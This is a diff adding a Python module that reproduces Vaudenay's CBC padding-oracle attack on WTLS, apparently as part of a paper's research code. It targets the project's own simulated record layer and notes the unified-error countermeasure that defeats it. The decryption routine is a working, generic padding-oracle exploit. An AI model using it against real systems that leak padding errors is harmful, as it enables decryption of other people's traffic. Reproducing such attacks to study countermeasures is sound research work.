@@ -1,0 +1,144 @@
+"""Vaudenay's CBC padding-oracle attack — the WTLS break of 2002.
+
+Period-perfect for this paper: Vaudenay's "Security Flaws Induced by
+CBC Padding" (EUROCRYPT 2002) demonstrated the attack against WTLS,
+whose early versions raised *distinguishable* alerts for bad padding
+vs. bad MAC.  An attacker who can submit crafted records and observe
+which error comes back decrypts traffic byte by byte without ever
+touching a key — a pure protocol-level side channel, complementing the
+physical channels of §3.4.
+
+The attack here runs against our own WTLS record layer with
+``distinguishable_errors=True`` and is defeated by the unified-error
+default (the countermeasure real TLS stacks adopted).
+
+The oracle answers one question per query: *did the padding check
+pass?*  Recovery of a 16-byte block costs ~4k queries — the numbers
+the tests assert on, matching the attack's published complexity
+(128 expected queries per byte).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Callable, List, Optional
+
+from ..crypto.bitops import split_blocks, xor_bytes
+
+PaddingOracle = Callable[[bytes], bool]
+
+
+@dataclass
+class OracleStats:
+    """Query accounting for the attack's complexity claims."""
+
+    queries: int = 0
+
+
+def decrypt_block(oracle: PaddingOracle, target: bytes, block_size: int,
+                  stats: Optional[OracleStats] = None) -> bytes:
+    """Recover ``D(target)`` — the raw block-cipher preimage.
+
+    Submits two-block messages ``r || target`` with chosen ``r``; the
+    CBC decryption of the second block is ``D(target) XOR r``, so the
+    padding check leaks ``D(target)`` one byte at a time, last byte
+    first (the classic pad-length laddering).
+
+    The true plaintext is ``D(target) XOR previous_ciphertext_block``,
+    which the caller computes (:func:`recover_plaintext`).
+    """
+    stats = stats or OracleStats()
+    known = bytearray(block_size)  # D(target), filled from the right
+
+    def query(r: bytes) -> bool:
+        stats.queries += 1
+        return oracle(r + target)
+
+    for pad in range(1, block_size + 1):
+        index = block_size - pad
+        r = bytearray(block_size)
+        # Force the already-recovered tail to decrypt to the pad value.
+        for j in range(index + 1, block_size):
+            r[j] = known[j] ^ pad
+        found = False
+        for guess in range(256):
+            r[index] = guess
+            if not query(bytes(r)):
+                continue
+            if pad == 1 and index > 0:
+                # Valid could mean ...02 02 etc.; flipping the byte to
+                # the left only matters in that case.
+                r[index - 1] ^= 0xFF
+                still_valid = query(bytes(r))
+                r[index - 1] ^= 0xFF
+                if not still_valid:
+                    continue
+            if pad >= 2:
+                # Degeneracy check: for pad >= 2 exactly one last-byte
+                # value yields valid padding.  A second 'valid' answer
+                # means the oracle is not distinguishing (unified-error
+                # countermeasure active) and the attack cannot work.
+                r[index] = (guess + 1) % 256
+                if query(bytes(r)):
+                    raise RuntimeError(
+                        "oracle accepts contradictory paddings — "
+                        "unified-error countermeasure is active"
+                    )
+                r[index] = guess
+            known[index] = guess ^ pad
+            found = True
+            break
+        if not found:
+            raise RuntimeError(
+                f"padding oracle gave no valid guess at byte {index} — "
+                "oracle is not distinguishable (countermeasure active?)"
+            )
+    return bytes(known)
+
+
+def recover_plaintext(oracle: PaddingOracle, ciphertext: bytes,
+                      block_size: int,
+                      stats: Optional[OracleStats] = None) -> bytes:
+    """Decrypt every block after the first of a captured CBC body.
+
+    The first block needs the record IV (session-secret in WTLS), so
+    the attack yields plaintext from block 2 onward — which for
+    MAC-then-encrypt records is nearly the whole payload.
+    """
+    blocks = split_blocks(ciphertext, block_size)
+    recovered: List[bytes] = []
+    for previous, current in zip(blocks, blocks[1:]):
+        preimage = decrypt_block(oracle, current, block_size, stats)
+        recovered.append(xor_bytes(preimage, previous))
+    return b"".join(recovered)
+
+
+def make_wtls_oracle(decoder, sequence_start: int = 1_000_000) -> PaddingOracle:
+    """Build a padding oracle from a WTLS decoder instance.
+
+    Each probe is framed as a fresh-sequence record (replay protection
+    never triggers: probes fail before being marked seen).  Returns
+    True when the decoder's error reveals the padding was VALID (i.e.
+    the failure, if any, happened later, at the MAC check).
+    """
+    from ..crypto.errors import PaddingError
+    from ..protocols.alerts import BadRecordMAC
+
+    state = {"sequence": sequence_start}
+
+    def oracle(body: bytes) -> bool:
+        state["sequence"] += 1
+        record = (
+            state["sequence"].to_bytes(4, "big")
+            + len(body).to_bytes(2, "big")
+            + body
+        )
+        try:
+            decoder.decode(record)
+            return True      # decoded fully (possible but unlikely)
+        except PaddingError:
+            return False     # padding rejected: invalid
+        except BadRecordMAC:
+            return True      # padding passed, MAC failed: valid padding
+
+    return oracle
